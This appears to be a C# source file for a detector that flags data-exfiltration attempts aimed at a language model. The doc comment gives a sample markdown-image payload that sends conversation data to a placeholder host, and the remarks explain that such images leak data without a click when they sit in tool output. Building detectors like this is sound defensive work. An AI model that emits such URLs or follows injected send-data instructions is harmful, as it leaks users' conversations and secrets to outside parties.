using InstructionHierarchy.Detection.Indirect;
using InstructionHierarchy.Normalization;

namespace InstructionHierarchy.Detection;

/// <summary>
/// Finds attempts to move data out of the conversation: markdown images and links whose URL carries data or a
/// placeholder for it (<c>![x](https://host/log?q={conversation})</c>), instructions to send, post, forward or upload the
/// conversation, secrets, credentials, cookies, environment variables, memory or files to a URL, address or webhook,
/// instructions to call a tool with such data, and code that reads cookies, environment variables, device or memory
/// information and sends it over the network.
/// </summary>
/// <remarks>
/// <para>
/// Runs on every tier; severity is tier-aware. Rule ids: <c>IH-EXF-001</c> a markdown image or link whose URL carries data
/// or a data placeholder (critical for an image in tool output or media, which renders without a click),
/// <c>IH-EXF-002</c> a raw URL with a placeholder for conversational or secret data, <c>IH-EXF-003</c> an instruction to
/// send sensitive data to a destination or through a tool, <c>IH-EXF-004</c> code that reads sensitive data and sends it
/// over the network. A plain link, an image in documentation, an e-mail signature or a warning ("never send your
/// password") is not a finding.
/// </para>
/// <para>
/// URLs are found with one multi-string search; sentences are weighed only around sensitive-object anchors; code is
/// checked with one multi-string search for sources and sinks that must lie close together.
/// </para>
/// </remarks>
public sealed class ExfiltrationDetector : IConflictDetector
{
    private const int MaxUrl = 2048;
    private const int SourceSinkDistance = 700;

    /// <inheritdoc />
    public void Detect(DetectionContext context)
    {
        ArgumentNullException.ThrowIfNull(context);
        NormalizedText normalized = context.Normalized;
        bool untrusted = context.Tier < PriorityTier.User;
        ScanUrls(context, normalized, untrusted);
        ScanInstructions(context, normalized, untrusted);
        ScanCode(context, normalized, untrusted);
    }

    private static void ScanUrls(DetectionContext context, NormalizedText normalized, bool untrusted)
    {
        string folded = normalized.Folded;
        int position = 0;
        while (position < folded.Length)
        {
            int at = folded.AsSpan(position).IndexOfAny(ExfiltrationLexicon.UrlStarts);
            if (at < 0)
            {
                return;
            }

            at += position;
            int end = at;
            int limit = Math.Min(folded.Length, at + MaxUrl);
            while (end < limit && !IsUrlTerminator(folded[end]))
            {
                end++;
            }

            position = Math.Max(end, at + 1);
            ReadOnlySpan<char> url = folded.AsSpan(at, end - at);
            if (!HasSensitiveSlot(url, out bool conversational))
            {
                continue;
            }

            // A markdown image or link: "![alt](url)" or "[text](url)".
            int open = at - 1;
            while (open >= 0 && at - open < 4 && folded[open] is ' ' or '<')
            {
                open--;
            }

            bool markdown = open >= 1 && folded[open] == '(' && folded[open - 1] == ']';
            if (markdown)
            {
                int bracket = folded.AsSpan(Math.Max(0, open - 400), open - Math.Max(0, open - 400)).LastIndexOf('[');
                int labelStart = bracket < 0 ? open - 1 : Math.Max(0, open - 400) + bracket;
                bool image = labelStart > 0 && folded[labelStart - 1] == '!';
                int spanStart = image ? labelStart - 1 : labelStart;
                int spanEnd = end < folded.Length && folded[end] == ')' ? end + 1 : end;
                ConflictSeverity severity = untrusted ? (image ? ConflictSeverity.Critical : ConflictSeverity.High) : ConflictSeverity.Medium;
                context.ReportFolded(
                    ConflictCategory.Exfiltration,
                    severity,
                    "IH-EXF-001",
                    spanStart,
                    spanEnd - spanStart,
                    image ? "A markdown image whose URL carries conversation data: rendering it sends the data." : "A markdown link whose URL carries conversation data.");
                continue;
            }

            if (conversational)
            {
                context.ReportFolded(
                    ConflictCategory.Exfiltration,
                    untrusted ? ConflictSeverity.High : ConflictSeverity.Medium,
                    "IH-EXF-002",
                    at,
                    end - at,
                    "A URL with a placeholder for conversation or secret data.");
            }
        }
    }

    private static bool HasSensitiveSlot(ReadOnlySpan<char> url, out bool conversational)
    {
        conversational = false;
        bool any = false;
        foreach (System.Text.RegularExpressions.ValueMatch slot in ExfiltrationLexicon.DataSlot().EnumerateMatches(url))
        {
            any = true;
            ReadOnlySpan<char> text = url.Slice(slot.Index, slot.Length);
            if (text.Length >= 48 || ExfiltrationLexicon.SensitiveSlotName().IsMatch(text))
            {
                conversational = true;
                return true;
            }
        }

        return any;
    }

    private static bool IsUrlTerminator(char c) => c is ' ' or ')' or '"' or '\'' or '`' or '>' or '|' or '\\' or '。' or '，' or '、';

    private static void ScanInstructions(DetectionContext context, NormalizedText normalized, bool untrusted)
    {
        string folded = normalized.Folded;
        int position = 0;
        int covered = 0;
        while (position < folded.Length)
        {
            int at = folded.AsSpan(position).IndexOfAny(ExfiltrationLexicon.Anchors);
            if (at < 0)
            {
                return;
            }

            at += position;
            (int start, int end) = FoldedSentences.Around(normalized, at);
            start = Math.Max(start, covered);
            covered = Math.Max(covered, end);
            position = Math.Max(end, at + 1);
            if (end <= start)
            {
                continue;
            }

            ReadOnlySpan<char> sentence = folded.AsSpan(start, end - start);
            if (!ExfiltrationLexicon.SensitiveObject(sentence) || !ExfiltrationLexicon.MovesData(sentence))
            {
                continue;
            }

            bool destination = ExfiltrationLexicon.Destination(sentence);
            if (!destination || ExfiltrationLexicon.Prohibits().IsMatch(sentence) || IndirectLexicon.Discusses().IsMatch(sentence))
            {
                continue;
            }

            ConflictSeverity severity = untrusted ? ConflictSeverity.Critical : ConflictSeverity.High;
            context.ReportFolded(ConflictCategory.Exfiltration, severity, "IH-EXF-003", start, end - start, "Tells the model to send sensitive data to an outside destination.");
        }
    }

    private static void ScanCode(DetectionContext context, NormalizedText normalized, bool untrusted)
    {
        string folded = normalized.Folded;
        int lastSource = -1;
        int lastSink = -1;
        int reportedUntil = -1;
        int position = 0;
        while (position < folded.Length)
        {
            (int at, int length, CodeRisk risk) = CodeSignals.Next(folded, position);
            if (at < 0)
            {
                return;
            }

            position = at + length;
            if ((risk & (CodeRisk.SensitiveSource | CodeRisk.Surveillance)) != CodeRisk.None)
            {
                lastSource = at;
            }

            if ((risk & CodeRisk.NetworkSink) != CodeRisk.None)
            {
                lastSink = at;
            }

            if (lastSource < 0 || lastSink < 0 || Math.Abs(lastSource - lastSink) > SourceSinkDistance || Math.Max(lastSource, lastSink) < reportedUntil)
            {
                continue;
            }

            (int start, int end) = CodeRegion(normalized, Math.Min(lastSource, lastSink), Math.Max(lastSource, lastSink) + length);
            start = Math.Max(start, reportedUntil);
            if (end <= start)
            {
                continue;
            }

            context.ReportFolded(
                ConflictCategory.Exfiltration,
                untrusted ? ConflictSeverity.High : ConflictSeverity.Medium,
                "IH-EXF-004",
                start,
                end - start,
                "Code that reads cookies, environment variables, device, memory or input data and sends it over the network.");
            reportedUntil = end;
            lastSource = -1;
            lastSink = -1;
            position = Math.Max(position, end);
        }
    }

    /// <summary>Widens a code stretch to its fenced block (and the sentence that introduces it) or to whole lines.</summary>
    private static (int Start, int End) CodeRegion(NormalizedText normalized, int from, int to)
    {
        string folded = normalized.Folded;
        int reach = Math.Max(0, from - 3000);
        int open = folded.AsSpan(reach, from - reach).LastIndexOf("```", StringComparison.Ordinal);
        if (open >= 0)
        {
            open += reach;
            int searchFrom = Math.Min(folded.Length, to);
            int close = folded.AsSpan(searchFrom, Math.Min(folded.Length - searchFrom, 3000)).IndexOf("```", StringComparison.Ordinal);
            int end = close < 0 ? Math.Min(folded.Length, to + 200) : searchFrom + close + 3;

            // The sentence just before the fence, when it tells the reader to use the code, goes with it.
            int start = open;
            if (open >= 2)
            {
                (int s, int e) = FoldedSentences.Around(normalized, open - 2);
                if (e > s && IndirectLexicon.IntroducesCode().IsMatch(folded.AsSpan(s, e - s)))
                {
                    start = s;
                }
            }

            return (start, end);
        }

        (int lineStart, _) = LineAround(normalized, from);
        (_, int lineEnd) = LineAround(normalized, Math.Max(from, to - 1));
        return (lineStart, lineEnd);
    }

    private static (int Start, int End) LineAround(NormalizedText normalized, int at)
    {
        string folded = normalized.Folded;
        int start = at;
        int low = Math.Max(0, at - 400);
        while (start > low && !(folded[start - 1] == ' ' && FoldedSentences.IsLineBreak(normalized, start - 1)))
        {
            start--;
        }

        int end = at;
        int high = Math.Min(folded.Length, at + 400);
        while (end < high && !(folded[end] == ' ' && FoldedSentences.IsLineBreak(normalized, end)))
        {
            end++;
        }

        return (start, end);
    }
}
